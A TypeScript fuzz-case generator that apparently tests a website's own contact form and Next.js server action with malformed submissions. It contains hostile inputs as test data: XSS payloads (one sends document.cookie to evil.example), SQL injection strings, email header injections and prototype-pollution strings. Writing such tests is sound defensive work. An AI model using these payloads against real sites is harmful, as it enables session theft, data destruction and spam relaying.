/**
 * The bad-input drill's cases: generated, labelled malformed submissions, one function per category.
 * Deterministic for a seed (every category draws from one seeded sequence, in a fixed order), so a run
 * can be repeated case for case. What each label promises: see tooling/drill/bad-input.ts.
 */
import { signFormToken } from "../../../lib/contact/spam";
import { seededRandom } from "../../shared/seeded-random";
import {
  jsFields,
  multipart,
  noJsFields,
  type ContactForm,
  type Enquiry,
  type Fields,
  type RawRequest,
} from "../../shared/form";
import { FORM_SECRET } from "./server";

export type Expectation = "refused" | "bot";

export type FuzzCase = {
  index: number;
  category: string;
  variant: string;
  expect: Expectation;
  request: RawRequest;
  /** The email address this case would be stored under, when its email is well-formed. */
  email?: string;
  /** Text that must never come back unescaped in an HTML answer. */
  payload?: string;
  /** For bot cases: what the stored row must hold, verbatim. */
  stored?: { name: string; message: string; company: string | null };
};

const OTHER_PATHS = [
  "/",
  "/blog",
  "/tags",
  "/feed.xml",
  "/sitemap.xml",
  "/no-such-page",
  "/api/enquiries/retry",
  "/blog/no-such-post",
  "/_next/static/x.js",
];

const HTML_PAYLOADS = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(document.domain)>',
  "</textarea><script>alert('x')</script>",
  "<svg/onload=alert(1)>",
  "javascript:alert(1)",
  "<iframe src=//evil.example></iframe>",
  "{{7*7}} ${7*7} <%= 7*7 %>",
  "</script><script>fetch('//evil.example?c='+document.cookie)</script>",
];

const SQL_PAYLOADS = [
  "Robert'); DROP TABLE enquiries;--",
  "' OR '1'='1",
  "1; UPDATE enquiries SET status='sent' WHERE 1=1; --",
  "\\'; DELETE FROM enquiries; --",
  "admin'--",
  "' UNION SELECT id, email, message FROM enquiries --",
  "\"; ATTACH DATABASE '/tmp/x.db' AS x; --",
];

const CONTROL = [
  "\u0000",
  "\u0007",
  "\u001b[31m",
  "\u007f",
  "\u0085",
  "\u2028",
  "\u2029",
  "\b",
  "\t",
  "\u000b",
  "\f",
  "\r",
];

const INVALID_UTF8: Buffer[] = [
  Buffer.from([0xff]),
  Buffer.from([0xfe, 0xff]),
  Buffer.from([0xc3, 0x28]),
  Buffer.from([0xc0, 0xaf]), // overlong "/"
  Buffer.from([0xed, 0xa0, 0x80]), // a UTF-16 surrogate
  Buffer.from([0xf4, 0x90, 0x80, 0x80]), // above U+10FFFF
  Buffer.from([0xe2, 0x82]), // truncated
];

/** What every category builds its cases from: the one seeded random sequence, the form, and request helpers. */
type CaseKit = {
  random: () => number;
  pick: <T>(items: readonly T[]) => T;
  form: ContactForm;
  validMessage: (i: number) => string;
  enquiry: (i: number, overrides?: Partial<Enquiry>) => Enquiry;
  headersFor: (i: number, extra?: Record<string, string>) => Record<string, string>;
  post: (
    i: number,
    path: string,
    fields: Fields,
    options?: { js?: boolean; headers?: Record<string, string> },
  ) => RawRequest;
  /** A bot's way of sending a form: no, forged or future token, or a filled honeypot (with an expired token too). */
  botTokens: () => { token: string | null; honeypot?: string; label: string };
};

function caseKit(form: ContactForm, baseUrl: string, random: () => number): CaseKit {
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const topic = form.topics[0] ?? "something-else";
  const validMessage = (i: number) => `Drill enquiry ${i}: our incident reviews keep turning into blame sessions.`;
  const enquiry = (i: number, overrides: Partial<Enquiry> = {}): Enquiry => ({
    name: `Fuzz Person ${i}`,
    email: `fz-${i}@drill.example`,
    company: "Fuzz Ltd",
    topic,
    message: validMessage(i),
    ...overrides,
  });
  const headersFor = (i: number, extra: Record<string, string> = {}) => ({
    origin: baseUrl,
    "x-forwarded-for": `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`,
    "user-agent": "drill/bad-input",
    ...extra,
  });
  const post = (
    i: number,
    path: string,
    fields: Fields,
    { js = false, headers = {} }: { js?: boolean; headers?: Record<string, string> } = {},
  ): RawRequest => {
    const { body, contentType } = multipart(fields);
    return {
      path,
      body,
      headers: headersFor(i, {
        "content-type": contentType,
        ...(js ? { "next-action": form.actionId, accept: "text/x-component" } : {}),
        ...headers,
      }),
    };
  };
  const botTokens = () =>
    pick<{ token: string | null; honeypot?: string; label: string }>([
      { token: null, label: "no token" },
      { token: "v1.1700000000000.forgedforgedforgedforgedforgedforgedforgedforg", label: "forged token" },
      { token: signFormToken(Date.now() + 5 * 60_000, FORM_SECRET), label: "token from the future" },
      // An expired token alone is a person's page left open (held for the author, lib/contact/submit.ts): as a bot's
      // it comes with a bot's other mark.
      {
        token: signFormToken(Date.now() - 25 * 60 * 60_000, FORM_SECRET),
        honeypot: "https://cheap-links.example",
        label: "expired token, honeypot filled",
      },
      { token: form.formToken, honeypot: "https://cheap-links.example", label: "honeypot filled" },
    ]);
  return { random, pick, form, validMessage, enquiry, headersFor, post, botTokens };
}

function wrongTypes(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, post } = kit;
  const js = random() < 0.7;
  const roots = ["[]", "[{}]", "42", "null", '"a string"', "[1,2]", "[{},{}]", '[{},"plain text"]', "[true]", "{}"];
  if (js) {
    const root = pick(roots);
    const fields = jsFields(form, enquiry(i)).filter(([name]) => name !== "0");
    fields.push(["0", root]);
    return {
      index: i,
      category: "wrong types",
      variant: `JS call with arguments ${root}`,
      expect: "refused",
      request: post(i, "/contact", fields, { js: true }),
      email: enquiry(i).email,
    };
  }
  const field = pick(["name", "email", "message", "topic"] as const);
  const fields = noJsFields(form, enquiry(i)).map(([name, value]): Fields[number] =>
    name === field
      ? [name, { filename: "payload.txt", content: Buffer.from(String(value)), type: "text/plain" }]
      : [name, value],
  );
  return {
    index: i,
    category: "wrong types",
    variant: `file upload as ${field}`,
    expect: "refused",
    request: post(i, "/contact", fields),
    email: enquiry(i).email,
  };
}

function missingFields(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, post } = kit;
  const js = random() < 0.5;
  const required = ["name", "email", "topic", "message"];
  const drop = required.filter(() => random() < 0.5);
  if (drop.length === 0) drop.push(pick(required));
  const fields = (js ? jsFields : noJsFields)(form, enquiry(i)).filter(
    ([name]) => !drop.includes(name.replace(/^_1_/, "")),
  );
  return {
    index: i,
    category: "missing fields",
    variant: `${js ? "JS" : "no-JS"} without ${drop.join(", ")}`,
    expect: "refused",
    request: post(i, "/contact", fields, { js }),
    email: enquiry(i).email,
  };
}

function extraFields(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, post, botTokens } = kit;
  const bot = botTokens();
  const js = random() < 0.5;
  const extras: Fields = pick([
    [
      ["status", "sent"],
      ["attempts", "99"],
      ["id", "00000000-0000-0000-0000-000000000000"],
    ],
    [
      ["__proto__", "polluted"],
      ["constructor", "x"],
      ["prototype", "y"],
    ],
    [
      ["ip_hash", "forged"],
      ["sent_at", "2020-01-01"],
      ["created_at", "1970-01-01"],
    ],
    [
      ["x".repeat(2000), "long name"],
      ["emoji 🚀", "✓"],
      ["", "empty name"],
    ],
  ]);
  const base = enquiry(i, { website: bot.honeypot });
  const fields = [
    ...(js ? jsFields : noJsFields)(form, base, { formToken: bot.token }),
    ...extras.map(([name, value]): Fields[number] => [js ? `_1_${name}` : name, value]),
  ];
  return {
    index: i,
    category: "extra fields",
    variant: `${js ? "JS" : "no-JS"} ${extras.map(([name]) => name.slice(0, 12)).join("/")} (${bot.label})`,
    expect: "bot",
    request: post(i, "/contact", fields, { js }),
    email: base.email,
    stored: { name: base.name, message: base.message, company: base.company },
  };
}

function arraysForStrings(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, post, botTokens } = kit;
  const field = pick(["name", "email", "message", "topic"] as const);
  const js = random() < 0.5;
  const valueFirst = random() < 0.5;
  const base = enquiry(i);
  const evil: Record<typeof field, string> = {
    name: "Second\r\nBcc: x@evil.example",
    email: "second@evil.example",
    message: "second message that would replace the first one",
    topic: "not-a-topic",
  };
  const prefix = js ? "_1_" : "";
  if (valueFirst) {
    // The first value is valid and wins (FormData.get); a bot's token keeps it out of the inbox.
    const bot = botTokens();
    const withBot = enquiry(i, { website: bot.honeypot });
    const fields = (js ? jsFields : noJsFields)(form, withBot, { formToken: bot.token });
    const at = fields.findIndex(([name]) => name === `${prefix}${field}`);
    fields.splice(
      at + 1,
      0,
      [`${prefix}${field}`, evil[field]],
      [`${prefix}${field}[]`, "array-style"],
      [`${prefix}${field}[0]`, "indexed"],
    );
    return {
      index: i,
      category: "arrays for strings",
      variant: `${field} twice, valid first (${bot.label})`,
      expect: "bot",
      request: post(i, "/contact", fields, { js }),
      email: withBot.email,
      stored: { name: withBot.name, message: withBot.message, company: withBot.company },
    };
  }
  const invalidFirst: Record<typeof field, string> = {
    name: "",
    email: "not-an-email",
    message: "short",
    topic: "nope",
  };
  const fields = (js ? jsFields : noJsFields)(form, base).flatMap(([name, value]): Fields =>
    name === `${prefix}${field}`
      ? [
          [name, invalidFirst[field]],
          [name, String(value)],
        ]
      : [[name, value]],
  );
  return {
    index: i,
    category: "arrays for strings",
    variant: `${field} twice, invalid first`,
    expect: "refused",
    request: post(i, "/contact", fields, { js }),
    email: base.email,
  };
}

function oversizeBodies(kit: CaseKit, i: number): FuzzCase {
  const { pick, form, enquiry, validMessage, post } = kit;
  const variant = pick([
    "10 MB with Content-Length",
    "10 MB chunked",
    "10 MB chunked JS call",
    "10 MB to /",
    "70 KB message",
    "5,001-character message",
    "10 MB in an extra field",
  ] as const);
  const big = "A".repeat(variant.startsWith("10 MB") ? 10 * 1024 * 1024 : 70 * 1024);
  const message =
    variant === "5,001-character message"
      ? "x".repeat(5_001)
      : variant === "10 MB in an extra field"
        ? validMessage(i)
        : big;
  const fields = (variant === "10 MB chunked JS call" ? jsFields : noJsFields)(form, enquiry(i, { message }));
  if (variant === "10 MB in an extra field") fields.push(["padding", big]);
  const request = post(i, variant === "10 MB to /" ? "/" : "/contact", fields, {
    js: variant === "10 MB chunked JS call",
  });
  if (variant.includes("chunked")) request.chunked = true;
  return { index: i, category: "oversize bodies", variant, expect: "refused", request, email: enquiry(i).email };
}

function invalidUtf8(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, post } = kit;
  const field = pick(["name", "email", "company", "message", "topic"] as const);
  const bytes = pick(INVALID_UTF8);
  const js = random() < 0.4;
  const base = enquiry(i);
  const original = Buffer.from(String(base[field]));
  const at = Math.floor(random() * (original.length + 1));
  const damaged = Buffer.concat([original.subarray(0, at), bytes, original.subarray(at)]);
  const prefix = js ? "_1_" : "";
  const fields = (js ? jsFields : noJsFields)(form, base).map(([name, value]): Fields[number] =>
    name === `${prefix}${field}` ? [name, damaged] : [name, value],
  );
  return {
    index: i,
    category: "invalid UTF-8",
    variant: `${js ? "JS" : "no-JS"} ${field} with ${bytes.toString("hex")}`,
    expect: "refused",
    request: post(i, "/contact", fields, { js }),
    email: base.email,
  };
}

function controlCharacters(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, post } = kit;
  const field = pick(["name", "company", "message"] as const);
  const char = pick(field === "message" ? CONTROL.filter((c) => c !== "\r") : CONTROL);
  const base = enquiry(i);
  // Inside the text: a trailing one would be trimmed away like any whitespace, leaving a valid value.
  const middle = Math.floor(base[field].length / 2);
  const value = `${base[field].slice(0, middle)}${char}${base[field].slice(middle)}`;
  const js = random() < 0.5;
  const e = { ...base, [field]: value };
  return {
    index: i,
    category: "control characters",
    variant: `${field} with U+${char.codePointAt(0)!.toString(16).padStart(4, "0")}`,
    expect: "refused",
    request: post(i, "/contact", (js ? jsFields : noJsFields)(form, e), { js }),
    email: base.email,
  };
}

function htmlAndScript(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, validMessage, post, botTokens } = kit;
  const payload = pick(HTML_PAYLOADS);
  const field = pick(["name", "company", "message"] as const);
  const js = random() < 0.5;
  // Half are otherwise valid (a bot: stored as spam at most), half also break another field (refused, and the values are shown again).
  if (random() < 0.5) {
    const bot = botTokens();
    const base = enquiry(i, { website: bot.honeypot });
    const e = { ...base, [field]: field === "message" ? `${payload} ${base.message}` : payload };
    return {
      index: i,
      category: "HTML and script",
      variant: `${field}: ${payload.slice(0, 24)} (${bot.label})`,
      expect: "bot",
      request: post(i, "/contact", (js ? jsFields : noJsFields)(form, e, { formToken: bot.token }), { js }),
      email: e.email,
      payload,
      stored: { name: e.name, message: e.message, company: e.company },
    };
  }
  const e = {
    ...enquiry(i),
    [field]: field === "message" ? `${payload} ${validMessage(i)}` : payload,
    topic: "not-a-topic",
  };
  return {
    index: i,
    category: "HTML and script",
    variant: `${field}: ${payload.slice(0, 24)} + bad topic`,
    expect: "refused",
    request: post(i, "/contact", (js ? jsFields : noJsFields)(form, e), { js }),
    email: e.email,
    payload,
  };
}

function sqlLookingText(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, post, botTokens } = kit;
  const payload = pick(SQL_PAYLOADS);
  const field = pick(["name", "company", "message", "email"] as const);
  const js = random() < 0.5;
  if (field === "email") {
    // Appended after the domain, so the address is invalid whatever the payload (some, like admin'--, are valid local parts).
    const e = enquiry(i, { email: `fz-${i}@drill.example${payload}` });
    return {
      index: i,
      category: "SQL-looking text",
      variant: `email: ${payload.slice(0, 24)}`,
      expect: "refused",
      request: post(i, "/contact", (js ? jsFields : noJsFields)(form, e), { js }),
      email: e.email,
    };
  }
  const bot = botTokens();
  const base = enquiry(i, { website: bot.honeypot });
  const e = { ...base, [field]: field === "message" ? `${base.message} ${payload}` : payload };
  return {
    index: i,
    category: "SQL-looking text",
    variant: `${field}: ${payload.slice(0, 24)} (${bot.label})`,
    expect: "bot",
    request: post(i, "/contact", (js ? jsFields : noJsFields)(form, e, { formToken: bot.token }), { js }),
    email: e.email,
    stored: { name: e.name, message: e.message, company: e.company },
  };
}

function headerInjection(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, post } = kit;
  const base = enquiry(i);
  const variants: Array<[string, Partial<Enquiry>]> = [
    ["name with CRLF Bcc", { name: "Ada\r\nBcc: victim@evil.example" }],
    ["name with LF Subject", { name: "Ada\nSubject: you won" }],
    ["name with bare CR", { name: "Ada\rTo: victim@evil.example" }],
    ["email with CRLF Bcc", { email: `${base.email}\r\nBcc: victim@evil.example` }],
    ["email with LF Cc", { email: `${base.email}\nCc: victim@evil.example` }],
    ["two addresses", { email: `${base.email}, victim@evil.example` }],
    ["display-name address", { email: `Victim <victim@evil.example>` }],
    ["address with semicolon", { email: `${base.email};victim@evil.example` }],
    ["email with NUL", { email: `${base.email}\u0000victim@evil.example` }],
    ["email with encoded CRLF", { email: `${base.email}%0d%0aBcc:victim@evil.example` }],
    ["company with CRLF", { company: "Evil\r\nX-Header: 1" }],
  ];
  const [label, overrides] = pick(variants);
  const js = random() < 0.5;
  const e = { ...base, ...overrides };
  return {
    index: i,
    category: "header injection",
    variant: label,
    expect: "refused",
    request: post(i, "/contact", (js ? jsFields : noJsFields)(form, e), { js }),
    email: base.email,
  };
}

function forgedAction(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, headersFor, post } = kit;
  const base = enquiry(i);
  const path = random() < 0.4 ? "/contact" : pick(OTHER_PATHS);
  const randomId = Array.from({ length: 42 }, () => "0123456789abcdef"[Math.floor(random() * 16)]).join("");
  const realRoot = JSON.stringify([{ status: "idle", message: "", fieldErrors: {}, values: {} }, "$K1"]);
  // React numbers a page's action forms itself ($ACTION_1, $ACTION_2 … with the footer's newsletter form): use the contact form's.
  const HEADER = form.hidden.find(([n]) => /^\$ACTION_\d+:0$/.test(n))?.[0] ?? "$ACTION_1:0";
  const BOUND = HEADER.replace(/:0$/, ":1");
  const variants: Array<[string, () => RawRequest]> = [
    [
      "unknown action id (JS)",
      () => post(i, path, jsFields(form, base), { js: true, headers: { "next-action": randomId } }),
    ],
    [
      "empty Next-Action header",
      () => post(i, path, jsFields(form, base), { js: true, headers: { "next-action": "" } }),
    ],
    [
      "unknown id in the action header",
      () =>
        post(
          i,
          path,
          noJsFields(form, base).map(([n, v]): Fields[number] =>
            n === HEADER ? [n, JSON.stringify({ id: randomId, bound: "$@1" })] : [n, v],
          ),
        ),
    ],
    [
      "$ACTION_ID_ of an unknown id",
      () =>
        post(i, path, [
          [`$ACTION_ID_${randomId}`, ""],
          ...noJsFields(form, base).filter(([n]) => !n.startsWith("$ACTION")),
        ]),
    ],
    [
      "$ACTION_ID_ of the real id (no bound state)",
      () =>
        post(i, path, [
          [`$ACTION_ID_${form.actionId}`, ""],
          ...noJsFields(form, base).filter(([n]) => !n.startsWith("$ACTION")),
        ]),
    ],
    [
      "no action fields (plain multipart)",
      () =>
        post(
          i,
          path,
          noJsFields(form, base).filter(([n]) => !n.startsWith("$ACTION")),
        ),
    ],
    [
      "garbage action header JSON",
      () =>
        post(
          i,
          path,
          noJsFields(form, base).map(([n, v]): Fields[number] => (n === HEADER ? [n, "{not json"] : [n, v])),
        ),
    ],
    [
      "action header without id",
      () =>
        post(
          i,
          path,
          noJsFields(form, base).map(([n, v]): Fields[number] => (n === HEADER ? [n, '{"bound":null}'] : [n, v])),
        ),
    ],
    [
      "bound state missing",
      () =>
        post(
          i,
          path,
          noJsFields(form, base).filter(([n]) => n !== BOUND),
        ),
    ],
    ...[
      "{x",
      "42",
      "[]",
      "[1,2]",
      '["$h1"]',
      '["$Q2"]',
      '["$@9"]',
      '["$1:__proto__:then"]',
      '[{"then":"$1:then"}]',
      '["$T"]',
      '["$B1"]',
      '["$nabc"]',
    ].map((bound): [string, () => RawRequest] => [
      `bound state ${bound}`,
      () =>
        post(
          i,
          path,
          noJsFields(form, base).map(([n, v]): Fields[number] => (n === BOUND ? [n, bound] : [n, v])),
        ),
    ]),
    [
      "bound null",
      () =>
        post(
          i,
          path,
          noJsFields(form, base).map(([n, v]): Fields[number] =>
            n === HEADER ? [n, JSON.stringify({ id: form.actionId, bound: null })] : [n, v],
          ),
        ),
    ],
    ...[
      '[{"__proto__":{"polluted":1}},"$K1"]',
      '["$h0"]',
      '[{},"$1:constructor:constructor"]',
      '["$@1"]',
      '[{},"$Q1"]',
      '[{},"$W1"]',
      '[{},"$i1"]',
      '[{},"$R1"]',
      '"$K1"',
      "[" + "[".repeat(3000) + "]".repeat(3000) + "]",
      '[{},"$K1"',
      "",
      "\u0000",
    ].map((root): [string, () => RawRequest] => [
      `JS root ${JSON.stringify(root.slice(0, 30))}`,
      () => post(i, path, [...jsFields(form, base).filter(([n]) => n !== "0"), ["0", root]], { js: true }),
    ]),
    [
      "JS call without root field",
      () =>
        post(
          i,
          path,
          jsFields(form, base).filter(([n]) => n !== "0"),
          { js: true },
        ),
    ],
    [
      "JS root as a file",
      () =>
        post(
          i,
          path,
          [
            ...jsFields(form, base).filter(([n]) => n !== "0"),
            ["0", { filename: "0.json", content: Buffer.from(realRoot) }],
          ],
          { js: true },
        ),
    ],
    ...["[", "[]", '["$K1"]', "42", '{"a":1}', "not json at all"].map((text): [string, () => RawRequest] => [
      `JS text body ${text}`,
      () => ({
        path,
        body: text,
        headers: headersFor(i, { "content-type": "text/plain;charset=UTF-8", "next-action": form.actionId }),
      }),
    ]),
    [
      "JS call as urlencoded",
      () => ({
        path,
        body: new URLSearchParams({ name: base.name, email: base.email }).toString(),
        headers: headersFor(i, { "content-type": "application/x-www-form-urlencoded", "next-action": form.actionId }),
      }),
    ],
    [
      "JS call as JSON",
      () => ({
        path,
        body: JSON.stringify([{}, base]),
        headers: headersFor(i, { "content-type": "application/json", "next-action": form.actionId }),
      }),
    ],
    [
      "JS call without content type",
      () => ({ path, body: realRoot, headers: headersFor(i, { "next-action": form.actionId }) }),
    ],
  ];
  const [label, build] = pick(variants);
  return {
    index: i,
    category: "forged action",
    variant: `${label} → ${path}`,
    expect: "refused",
    request: build(),
    email: base.email,
  };
}

function wrongOrigin(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, post } = kit;
  const base = enquiry(i);
  const origin = pick([
    "https://evil.example",
    "null",
    `http://127.0.0.1.evil.example`,
    "http://127.0.0.1:1",
    "http://localhost",
    "not a url",
    "https://evil.example:443",
  ]);
  const path = random() < 0.5 ? "/contact" : pick(OTHER_PATHS);
  const js = random() < 0.5;
  return {
    index: i,
    category: "wrong Origin",
    variant: `${js ? "JS" : "no-JS"} from ${origin} → ${path}`,
    expect: "refused",
    request: post(i, path, (js ? jsFields : noJsFields)(form, base), { js, headers: { origin } }),
    email: base.email,
  };
}

function brokenMultipart(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, headersFor } = kit;
  const path = random() < 0.5 ? "/contact" : pick(OTHER_PATHS);
  const { body } = multipart(noJsFields(form, enquiry(i)), "BOUNDARY");
  const variants: Array<[string, RawRequest]> = [
    ["no boundary", { path, body, headers: headersFor(i, { "content-type": "multipart/form-data" }) }],
    [
      "wrong boundary",
      { path, body, headers: headersFor(i, { "content-type": "multipart/form-data; boundary=OTHER" }) },
    ],
    [
      "truncated",
      {
        path,
        body: body.subarray(0, Math.floor(body.length / 2)),
        headers: headersFor(i, { "content-type": "multipart/form-data; boundary=BOUNDARY" }),
      },
    ],
    [
      "garbage",
      {
        path,
        body: Buffer.from("\u0000\u0001garbage\r\n--\r\n"),
        headers: headersFor(i, { "content-type": "multipart/form-data; boundary=BOUNDARY" }),
      },
    ],
    [
      "empty body",
      {
        path,
        body: Buffer.alloc(0),
        headers: headersFor(i, { "content-type": "multipart/form-data; boundary=BOUNDARY" }),
      },
    ],
    [
      "part without name",
      {
        path,
        body: Buffer.from("--BOUNDARY\r\nContent-Disposition: form-data\r\n\r\nvalue\r\n--BOUNDARY--\r\n"),
        headers: headersFor(i, { "content-type": "multipart/form-data; boundary=BOUNDARY" }),
      },
    ],
    [
      "JS call with broken multipart",
      {
        path,
        body: body.subarray(0, 40),
        headers: headersFor(i, {
          "content-type": "multipart/form-data; boundary=BOUNDARY",
          "next-action": form.actionId,
        }),
      },
    ],
  ];
  const [label, request] = pick(variants);
  return {
    index: i,
    category: "broken multipart",
    variant: `${label} → ${path}`,
    expect: "refused",
    request,
    email: enquiry(i).email,
  };
}

function otherMethods(kit: CaseKit, i: number): FuzzCase {
  const { random, pick, form, enquiry, post } = kit;
  const method = pick(["PUT", "PATCH", "DELETE", "OPTIONS"]);
  const js = random() < 0.5;
  const request = post(i, "/contact", (js ? jsFields : noJsFields)(form, enquiry(i)), { js });
  return {
    index: i,
    category: "other methods",
    variant: `${method}${js ? " with Next-Action" : ""}`,
    expect: "refused",
    request: { ...request, method },
    email: enquiry(i).email,
  };
}

/** The categories with their weights: each gets its share of the cases. */
const CATEGORIES: Array<[string, number, (kit: CaseKit, i: number) => FuzzCase]> = [
  ["wrong types", 9, wrongTypes],
  ["missing fields", 8, missingFields],
  ["extra fields", 7, extraFields],
  ["arrays for strings", 7, arraysForStrings],
  ["oversize bodies", 2, oversizeBodies],
  ["invalid UTF-8", 8, invalidUtf8],
  ["control characters", 8, controlCharacters],
  ["HTML and script", 8, htmlAndScript],
  ["SQL-looking text", 7, sqlLookingText],
  ["header injection", 8, headerInjection],
  ["forged action", 14, forgedAction],
  ["wrong Origin", 8, wrongOrigin],
  ["broken multipart", 5, brokenMultipart],
  ["other methods", 2, otherMethods],
];

/** Builds the deterministic set of cases for `count` submissions. */
export function generateCases(
  form: ContactForm,
  baseUrl: string,
  { count, seed = 6 }: { count: number; seed?: number },
): FuzzCase[] {
  const random = seededRandom(seed);
  const kit = caseKit(form, baseUrl, random);
  const cases: FuzzCase[] = [];
  const totalWeight = CATEGORIES.reduce((sum, [, weight]) => sum + weight, 0);
  // Every category gets its share; the order is shuffled so categories interleave like real traffic.
  for (const [, weight, generate] of CATEGORIES) {
    const n = Math.max(1, Math.round((count * weight) / totalWeight));
    for (let k = 0; k < n; k++) cases.push(generate(kit, cases.length));
  }
  while (cases.length < count) cases.push(CATEGORIES[Math.floor(random() * CATEGORIES.length)]![2](kit, cases.length));
  for (let k = cases.length - 1; k > 0; k--) {
    const j = Math.floor(random() * (k + 1));
    [cases[k], cases[j]] = [cases[j]!, cases[k]!];
  }
  return cases.slice(0, Math.max(count, cases.length));
}
